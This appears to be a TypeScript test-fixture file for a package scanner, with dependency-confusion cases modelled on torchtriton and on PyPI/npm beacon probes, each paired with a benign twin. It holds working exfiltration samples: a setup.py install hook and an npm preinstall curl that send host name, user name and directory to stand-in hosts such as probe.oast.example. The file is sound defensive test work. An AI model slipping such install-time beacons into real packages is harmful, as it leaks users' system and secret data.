import {
  disguisedJavaScript,
  disguisedPython,
  javascriptIncident,
  pythonIncident,
} from '../../support/incident-programs.ts'
import { npm, type PackageCase, pypi, sdist, SETTLED, tarball, wheel, YOUNG } from '../../support/package-case.ts'

/** Names that only an organisation knows, taken by somebody else in public: who installs is told to him. */
export const dependencyConfusion: readonly PackageCase[] = [
  {
    id: 'torchtriton',
    incident: 'torchtriton 3.0.0 on PyPI, December 2022: keys and host facts in questions to the name service',
    project: pypi(
      'torchtriton',
      wheel('torchtriton', '3.0.0', {
        'triton/__init__.py': pythonIncident('torchtriton'),
        'triton/version.py': '__version__ = "3.0.0"\n',
      }),
      { since: YOUNG },
    ),
    expect: {
      verdict: 'block',
      story: 'steals-secrets',
      text: /^On import, reads .*~\/\.ssh.* and asks the name service for a name made of it \(….collect\.example\)/,
      steps: ['triton/__init__.py:9', 'triton/__init__.py:29'],
    },
    twin: pypi(
      'pytorch-runtime-tools',
      wheel('pytorch-runtime-tools', '3.0.0', {
        'runtime_tools/__init__.py': `import os, socket, platform
def rank():
    return int(os.environ.get("RANK", "0"))
def master():
    host = os.environ.get("MASTER_ADDR", "localhost")
    return socket.gethostbyname(host), int(os.environ.get("MASTER_PORT", "29500"))
NODE = platform.node()
`,
      }),
    ),
  },
  {
    id: 'torchtriton, texts in pieces',
    incident: 'the same, every text taken apart and every import under another name',
    project: pypi(
      'torchtriton',
      wheel('torchtriton', '3.0.0', {
        'triton/__init__.py': 'from .runtime import driver\n',
        'triton/runtime/__init__.py': '',
        'triton/runtime/driver.py': disguisedPython(
          'aliased imports',
          disguisedPython('split texts', pythonIncident('torchtriton')),
        ),
      }),
      { since: YOUNG },
    ),
    expect: {
      verdict: 'block',
      story: 'steals-secrets',
      text: /^On import, reads .* asks the name service for a name made of it/,
    },
    twin: pypi(
      'name-service-cache',
      wheel('name-service-cache', '1.0.0', {
        'dns_cache/__init__.py': `import functools, socket
@functools.lru_cache(maxsize=1024)
def lookup(name, port=0):
    return socket.getaddrinfo(name, port, proto=socket.IPPROTO_TCP)
def reverse(address):
    return socket.gethostbyaddr(address)[0]
HOST = socket.gethostname()
`,
      }),
    ),
  },
  {
    id: 'a beacon in setup.py',
    incident:
      'probes for dependency confusion on PyPI since 2021: host, user and folder leave in a name, from a file beside setup.py',
    project: pypi(
      'acme-internal-billing',
      sdist('acme-internal-billing', '99.9.9', {
        'setup.py': `from setuptools import setup
from setuptools.command.install import install
from _notify import notify
class Install(install):
    def run(self):
        notify()
        install.run(self)
setup(name="acme-internal-billing", version="99.9.9", cmdclass={"install": Install})
`,
        '_notify.py': `import getpass, os, socket
def fields():
    return [socket.gethostname(), getpass.getuser(), os.getcwd()]
def notify():
    name = ".".join(fields()).encode().hex()
    socket.gethostbyname(name[:60] + ".oast.example")
`,
      }),
      { since: YOUNG },
    ),
    expect: {
      verdict: 'block',
      story: 'reports-home',
      text: /^On install, reads the host name, the user name and the working directory, encodes it as hexadecimal and asks the name service/,
      steps: ['_notify.py:3', '_notify.py:6'],
    },
    twin: pypi(
      'acme-internal-billing',
      sdist('acme-internal-billing', '1.4.2', {
        'setup.py': `from setuptools import setup, find_packages
from setuptools.command.build_py import build_py
from _version import write
class Build(build_py):
    def run(self):
        write("acme_billing/_build.py")
        build_py.run(self)
setup(name="acme-internal-billing", version="1.4.2", packages=find_packages(), cmdclass={"build_py": Build})
`,
        '_version.py': `import getpass, socket, time
def write(path):
    with open(path, "w") as f:
        f.write("BUILT = %r\\nBY = %r\\n" % (time.time(), getpass.getuser() + "@" + socket.gethostname()))
`,
        'acme_billing/__init__.py': 'def total(lines):\n    return sum(line.amount for line in lines)\n',
      }),
    ),
  },
  {
    id: 'a beacon in a command',
    incident: 'the same on npm: one command in preinstall',
    project: npm(
      '@acme-private/widgets',
      tarball(
        '@acme-private/widgets',
        '99.0.1',
        { 'index.js': 'module.exports = {};\n' },
        { scripts: { preinstall: 'curl -s "https://probe.oast.example/?h=$(hostname)&u=$(whoami)" || true' } },
      ),
      { since: YOUNG },
    ),
    expect: {
      verdict: 'block',
      story: 'reports-home',
      text: /^On install, reads .*(?:host name|user name).* and sends it to probe\.oast\.example/,
      steps: ['package.json:5'],
    },
    twin: npm(
      '@acme-private/widgets',
      tarball(
        '@acme-private/widgets',
        '2.3.0',
        { 'index.js': 'module.exports = { widget: (name) => ({ name }) };\n' },
        { scripts: { preinstall: 'npx only-allow pnpm', prepare: 'husky', test: 'vitest run' } },
      ),
    ),
  },
  {
    id: 'a beacon in a hook',
    incident: 'the same from a script that the hook starts, names in a table',
    project: npm(
      'acme-design-tokens',
      tarball(
        'acme-design-tokens',
        '77.0.0',
        {
          'index.js': 'module.exports = require("./lib/tokens.js");\n',
          'lib/tokens.js': 'module.exports = {};\n',
          'scripts/check.js': disguisedJavaScript(
            'string table',
            javascriptIncident('a beacon of dependency confusion'),
          ),
        },
        { main: 'index.js', scripts: { postinstall: 'node scripts/check.js' } },
      ),
      { since: YOUNG },
    ),
    expect: { verdict: 'block', story: 'reports-home', text: /^On install, reads .*host name.* asks the name service/ },
    twin: npm(
      'acme-design-tokens',
      tarball(
        'acme-design-tokens',
        '7.0.0',
        {
          'index.js': 'module.exports = require("./lib/tokens.js");\n',
          'lib/tokens.js': 'module.exports = { red: "#f00" };\n',
          'scripts/check.js': `const os = require('os');
const [major] = process.versions.node.split('.').map(Number);
if (major < 18) console.warn('Node 18 is needed on ' + os.platform() + ', this is ' + process.version);
`,
        },
        { main: 'index.js', scripts: { postinstall: 'node scripts/check.js' } },
      ),
      { since: SETTLED },
    ),
  },
]
